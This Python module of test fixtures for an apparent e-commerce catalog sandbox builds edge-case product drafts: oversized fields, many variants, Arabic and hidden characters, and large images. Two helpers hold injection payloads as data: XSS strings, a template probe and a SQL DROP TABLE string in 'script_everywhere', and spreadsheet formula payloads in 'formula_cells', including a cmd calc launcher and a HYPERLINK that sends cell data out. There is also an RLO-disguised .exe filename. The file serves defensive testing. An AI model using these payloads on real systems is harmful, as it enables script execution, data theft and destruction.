"""What the rarer troubles do to a draft: the longest, the largest, the strangest that a store may hold."""

from sandbox.catalog.changes import Change, Draft, simple

RIGHT_TO_LEFT = "قميص كتان مريح للصيف"
PAYLOAD = "<script>alert(document.domain)</script>"
FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Click for details")'
FAMILY = "👩🏽‍👩🏽‍👧🏽‍👦🏽"


def sku_of_70(draft: Draft) -> None:
    simple(draft)
    draft["sku"] = f"{draft['sku']}-".ljust(70, "X")


def exactly(count: int) -> Change:
    """So many variants: two options whose values multiply to at least that, cut off there."""

    def change(draft: Draft) -> None:
        draft["inventory_tracking"] = "variant"
        draft["variants"] = [
            {
                "sku": f"{draft['sku']}-V{number:03d}",
                "on_hand": number % 7,
                "option_values": [
                    {"option_display_name": "Shade", "label": f"Shade {number // 20 + 1}"},
                    {"option_display_name": "Length", "label": f"{number % 20 + 1} cm"},
                ],
            }
            for number in range(count)
        ]

    return change


def options(name: str, *labels: str) -> Change:
    """One option with these values, in place of whatever the product had."""

    def change(draft: Draft) -> None:
        draft["inventory_tracking"] = "variant"
        draft["variants"] = [
            {
                "sku": f"{draft['sku']}-{number}",
                "on_hand": 6,
                "option_values": [{"option_display_name": name, "label": label}],
            }
            for number, label in enumerate(labels, start=1)
        ]

    return change


def four_options(draft: Draft) -> None:
    draft["inventory_tracking"] = "variant"
    names = ("Color", "Size", "Fit", "Lining")
    draft["variants"] = [
        {
            "sku": f"{draft['sku']}-{number}",
            "on_hand": 3,
            "option_values": [{"option_display_name": name, "label": f"{name} {number}"} for name in names],
        }
        for number in (1, 2)
    ]


def script_everywhere(draft: Draft) -> None:
    """Markup that must stay text wherever it is shown: title, option, picture description, custom field."""
    draft["name"] = f"{draft['name']} {PAYLOAD}"
    draft["description"] += f'{PAYLOAD}<img src=x onerror=alert(1)><a href="javascript:alert(1)">More</a>'
    options('"><img src=x onerror=alert(1)>', PAYLOAD, "{{7*7}}")(draft)
    draft["custom_fields"] = [{"name": PAYLOAD, "value": "'); DROP TABLE products;--"}]
    for image in draft["images"]:
        image["description"] = f'" onload="alert(1)" {PAYLOAD}'


def formula_cells(draft: Draft) -> None:
    """Cells that a spreadsheet would run, in everything an export writes."""
    draft["name"] = f"{FORMULA} {draft['name']}"
    draft["mpn"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    options("=1+1", "+1-800-555-0100", "-2+3", "@home")(draft)
    for number, row in enumerate(draft["variants"]):
        row["sku"] = f"={draft['sku']}-{number}"


def right_to_left(draft: Draft) -> None:
    """A title in Arabic, with a mark that turns what follows it around (and is never closed)."""
    draft["name"] = f"{RIGHT_TO_LEFT} {draft['sku']} \u202egpj.exe"
    draft["description"] = f'<p dir="rtl">{RIGHT_TO_LEFT}</p>' + draft["description"]


def hidden_characters(draft: Draft) -> None:
    words = draft["name"].split(" ")
    draft["name"] = "\u200b".join(words[:2]) + "\u00a0" + "\u2060 ".join(words[2:]) + " \ufeff"


def emoji_options(draft: Draft) -> None:
    options("Mood", f"{FAMILY} Family", "🔥 Hot", "❄️ Cold")(draft)


def long_description(draft: Draft) -> None:
    """About sixty thousand characters, six times what TikTok Shop takes."""
    draft["description"] = draft["description"] * (60_000 // len(draft["description"]) + 1)


def table_description(draft: Draft) -> None:
    rows = "".join(f"<tr><td>{size}</td><td>{34 + 2 * size} in</td></tr>" for size in range(1, 9))
    draft["description"] += f"<table border=1><caption>Sizes</caption><tbody>{rows}</tbody></table>"


def huge_image(draft: Draft) -> None:
    """Forty megapixels, handed out in full: drawn line by line when somebody asks, never held."""
    for image in draft["images"][:1]:
        image["picture"] = {**image["picture"], "width": 8000, "height": 5000, "format": "png", "whole": True}


def first_image(**changes: object) -> Change:
    def change(draft: Draft) -> None:
        for image in draft["images"][:1]:
            image["picture"] = {**image["picture"], **changes}

    return change


def heavy(draft: Draft) -> None:
    draft["weight"] = 999.0


def digital(draft: Draft) -> None:
    simple(draft)
    draft.update(type="digital", weight=0, width=0, depth=0, height=0, inventory_tracking="none")
